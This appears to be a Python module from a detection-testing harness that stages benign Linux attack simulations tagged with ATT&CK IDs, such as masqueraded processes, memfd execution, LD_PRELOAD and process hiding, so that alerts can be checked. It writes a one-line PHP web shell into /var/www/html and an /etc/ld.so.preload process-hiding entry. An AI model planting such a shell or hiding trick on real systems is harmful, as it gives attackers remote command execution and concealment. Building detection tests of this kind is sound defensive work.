"""Programs that run from where none should, or as what they are not; hidden ones."""

from __future__ import annotations

import os
import shutil
import subprocess

from .table import CHECK, LIVE, Deed, NotHere, act, add
from .tools import left, left_python, made, mounted, write

SLEEP = "/usr/bin/sleep"
KIND = '"kind":"process"'
"""What asks for an alert of the program that runs, and not only of its file."""


def copied(name: str, technique: str, path: str, does: str, argv0: str = "") -> None:
    """The row of a program copied somewhere and left running."""

    def deed() -> Deed:
        with made(path):
            os.makedirs(os.path.dirname(path), exist_ok=True)
            shutil.copy(SLEEP, path)
            with left(argv0 or path, "600", exe=path):
                yield

    add(name, deed, technique, does, KIND, path, within=LIVE)


PLACE = "T1036.005 T1059 T1620 T1055 T1564.001"
copied("runs-from-tmp", PLACE, "/tmp/kdevtmp", "a program runs from /tmp")
copied("runs-from-shm", PLACE, "/dev/shm/x", "a program runs from /dev/shm")
copied("runs-from-var-tmp", PLACE, "/var/tmp/.cache/x", "a program runs from a hidden folder in /var/tmp")
copied(
    "runs-from-a-hidden-folder",
    "T1564.001 T1036",
    "/usr/lib/.x/agent",
    "a program runs from a hidden folder in /usr/lib",
)
copied("runs-from-three-dots", PLACE, "/tmp/.../sh", "a program runs from /tmp/...")
copied("runs-as-kernel-thread", "T1036", "/usr/local/lib/worker", "exec -a '[kworker/0:1]'", "[kworker/0:1]")
copied(
    "runs-under-a-known-name",
    "T1036",
    "/opt/sshd",
    "a program in /opt that calls itself /usr/sbin/sshd",
    "/usr/sbin/sshd",
)
copied(
    "new-service-by-hand", "T1543 T1059 T1036", "/usr/local/sbin/agentd", "an unknown program is left running"
)


@act("T1036", "prctl: a program renames itself to a kernel thread", KIND, "kworker/0:1H", within=LIVE)
def renamed_by_prctl() -> Deed:
    one = left_python("import ctypes\nctypes.CDLL(None).prctl(15, b'kworker/0:1H', 0, 0, 0)")
    yield
    one.end()


@act("T1036", "a name with a trailing space", "trailing", within=LIVE)
def trailing_space() -> Deed:
    with made("/usr/local/bin/trailing "):
        shutil.copy(SLEEP, "/usr/local/bin/trailing ")
        with left("/usr/local/bin/trailing ", "600"):
            yield


@act(
    "T1620 T1055 T1036 T1070.004",
    "the file of a running program is removed",
    "/var/lib/misc/gone",
    within=LIVE,
)
def runs_from_a_deleted_file() -> Deed:
    shutil.copy(SLEEP, "/var/lib/misc/gone")
    with left("/var/lib/misc/gone", "600"):
        os.unlink("/var/lib/misc/gone")
        yield


@act("T1620", "memfd_create, then fexecve", "memfd:", within=LIVE)
def runs_from_memory() -> Deed:
    code = (
        "import os\nfd = os.memfd_create('loader', 0)\nos.write(fd, open('/usr/bin/sleep', 'rb').read())\n"
        "os.execv(f'/proc/self/fd/{fd}', ['sleep', '600'])"
    )
    with left("python3", "-c", code):
        yield


@act(
    "T1055 T1574.006 T1620",
    "a library is mapped from /dev/shm into a running program",
    "/dev/shm/libx.so",
    within=70.0,
)
def library_from_shm() -> Deed:
    with made("/dev/shm/libx.so"):
        shutil.copy("/usr/lib/x86_64-linux-gnu/libanl.so.1", "/dev/shm/libx.so")
        one = left_python("import ctypes\nctypes.CDLL('/dev/shm/libx.so')")
        yield
        one.end()


@act(
    "T1574.006",
    "LD_PRELOAD in the environment of a program left running",
    "/usr/local/lib/libpre.so",
    within=LIVE,
)
def preload_in_the_environment() -> Deed:
    with made("/usr/local/lib/libpre.so"):
        shutil.copy("/usr/lib/x86_64-linux-gnu/libanl.so.1", "/usr/local/lib/libpre.so")
        with left("sleep", "600", env={"LD_PRELOAD": "/usr/local/lib/libpre.so", "PATH": "/usr/bin"}):
            yield


@act("T1574.006", "LD_PRELOAD of a hidden library in a login's own program", "/tmp/.hid/libx.so", within=LIVE)
def preload_in_a_session() -> Deed:
    with made("/tmp/.hid/libx.so"):
        write("/tmp/.hid/libx.so", b"")
        shutil.copy("/usr/lib/x86_64-linux-gnu/libanl.so.1", "/tmp/.hid/libx.so")
        one = subprocess.Popen(["sleep", "600"], env={"LD_PRELOAD": "/tmp/.hid/libx.so", "PATH": "/usr/bin"})
        yield
        one.kill()
        one.wait()


@act("T1059 T1036", "an interpreter runs a script from /dev/shm", KIND, "/dev/shm/c2.py", within=LIVE)
def script_from_shm() -> Deed:
    with made("/dev/shm/c2.py"):
        write("/dev/shm/c2.py", "import time\ntime.sleep(600)\n")
        with left("python3", "/dev/shm/c2.py"):
            yield


@act("T1059 T1036 T1620", "a program is put into /tmp to be run", "/tmp/stage2", within=LIVE)
def program_put_into_tmp() -> Deed:
    with made("/tmp/stage2"):
        shutil.copy(SLEEP, "/tmp/stage2")
        yield


@act(
    "T1059 T1036 T1620",
    "a script is put into /var/tmp, not executable: sh runs it all the same",
    "/var/tmp/run.sh",
    within=LIVE,
)
def script_put_into_var_tmp() -> Deed:
    with made("/var/tmp/run.sh"):
        write("/var/tmp/run.sh", "#!/bin/sh\nid\n")
        yield


@act("T1505.003", "a web shell below /var/www", "/var/www/html/img.php")
def web_shell() -> Deed:
    with made("/var/www/html/img.php"):
        write("/var/www/html/img.php", "<?php system($_GET['c']);\n")
        yield


@act("T1505.003", "an executable below /var/www", "/var/www/html/a.out")
def executable_in_document_root() -> Deed:
    with made("/var/www/html/a.out"):
        shutil.copy(SLEEP, "/var/www/html/a.out")
        yield


@act("T1036 T1543", "a second copy of a service with a configuration of its own", "nginx", within=LIVE)
def second_copy() -> Deed:
    write(
        "/var/lib/trial/nginx.conf",
        "daemon off; pid /var/lib/trial/n.pid; error_log /dev/null; events {}\n"
        "http { access_log off; server { listen 8081; } }\n",
    )
    with left("/usr/sbin/nginx", "-c", "/var/lib/trial/nginx.conf"):
        yield


@act(
    "T1543",
    "exec in place: a service's process becomes another program",
    KIND,
    '"executable":"/usr/local/lib/takeover"',
    within=15.0,
)
def executed_in_place() -> Deed:
    with made("/usr/local/lib/takeover"):
        shutil.copy(SLEEP, "/usr/local/lib/takeover")
        code = "import time, os\ntime.sleep(5)\nos.execv('/usr/local/lib/takeover', ['python3', '600'])"
        with left("python3", "-c", code):
            yield


@act(
    "T1014",
    "mount --bind over /proc/PID: ps does not show it any more",
    '"kind":"mount"',
    "that process is hidden behind it",
    within=LIVE,
)
def process_hidden_by_a_mount() -> Deed:
    with left("sleep", "601") as one, mounted("--bind", "/var/lib/dbus", f"/proc/{one.pid}"):
        yield


@act("T1014 T1574.006", "a library in ld.so.preload hides a process from readdir(3)", "/etc/ld.so.preload")
def process_hidden_by_a_library() -> Deed:
    if not os.path.exists("/trial/hide.so"):
        raise NotHere("there was no compiler to make the library with")
    with made("/etc/ld.so.preload", "/usr/lib/libhide.so"):
        shutil.copy("/trial/hide.so", "/usr/lib/libhide.so")
        with left("sleep", "31337"):
            write("/etc/ld.so.preload", "/usr/lib/libhide.so\n")
            yield


def odd(name: str, path: str, thing: str = "") -> None:
    """The row of a hidden name in an odd place; `thing`: a folder that stands for what lies in it."""

    def deed() -> Deed:
        with made(path):
            write(path, "x")
            yield

    add(name, deed, "T1564.001", f"a file at {path!r}", thing or path, within=CHECK)


odd("three-dots", "/usr/lib/.../x")
odd("two-dots-and-a-space", "/usr/share/.. /x")
odd("hidden-folder-in-tmp", "/tmp/.font-cache/x", "/tmp/.font-cache")
odd("file-in-dev", "/dev/.udev-x")
odd("plain-file-in-dev", "/dev/ptyp")
